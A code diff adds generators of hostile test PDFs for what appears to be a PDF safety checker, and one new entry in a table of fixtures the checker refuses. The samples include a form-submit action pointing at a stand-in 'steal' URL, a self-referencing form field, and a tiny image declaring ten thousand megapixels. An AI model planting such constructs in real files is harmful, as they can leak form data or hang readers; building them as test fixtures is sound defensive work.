@@ -182,6 +182,45 @@ def dynamic_xfa() -> bytes:
     return to_bytes(pdf)
 
 
+def media() -> bytes:
+    """Annotations that play, show or record something, and one that sends the form away."""
+    pdf = plain()
+    kinds = (Name.RichMedia, Name.Screen, Name.Movie, Name.Sound, Name("/3D"))
+    playing = [Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array([0, 0, 9, 9])) for kind in kinds]
+    sends = Dictionary(S=Name.SubmitForm, F="https://example.com/steal")
+    elsewhere = Dictionary(S=Name.GoToR, F="other.pdf")
+    pdf.pages[0].Annots = Array([*map(pdf.make_indirect, playing), _link(pdf, sends), _link(pdf, elsewhere)])
+    return to_bytes(pdf)
+
+
+def portfolio() -> bytes:
+    pdf = plain()
+    pdf.attachments["inside.pdf"] = b"%PDF-1.7"
+    pdf.Root.Collection = Dictionary(View=Name.D)
+    pdf.Root.AF = Array([])
+    return to_bytes(pdf)
+
+
+def endless_form() -> bytes:
+    """A field that is its own child and its own parent."""
+    pdf = plain()
+    field = pdf.make_indirect(Dictionary(T="again"))
+    field.Kids, field.Parent = Array([field]), field
+    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
+    return to_bytes(pdf)
+
+
+def giant_image() -> bytes:
+    """An image of ten thousand megapixels in a few bytes."""
+    pdf = plain()
+    image = pdf.make_stream(b"\0")
+    image.Type, image.Subtype, image.ColorSpace = Name.XObject, Name.Image, Name.DeviceRGB
+    image.Width, image.Height, image.BitsPerComponent = 100_000, 100_000, 8
+    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))
+    pdf.pages[0].Contents = Stream(pdf, b"q 500 0 0 500 0 0 cm /I Do Q")
+    return to_bytes(pdf)
+
+
 def endless_outline() -> bytes:
     pdf = plain()
     item = pdf.make_indirect(Dictionary(Title="again"))
@@ -240,6 +279,7 @@ REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
     "user unit": (user_unit, "user_unit"),
     "dynamic XFA": (dynamic_xfa, "xfa"),
     "endless outline": (endless_outline, "malformed"),
+    "endless form": (endless_form, "malformed"),
 }
 """What it is -> (maker, reason of the refusal). The nested-forms bomb is apart: only the time limit stops it."""
 
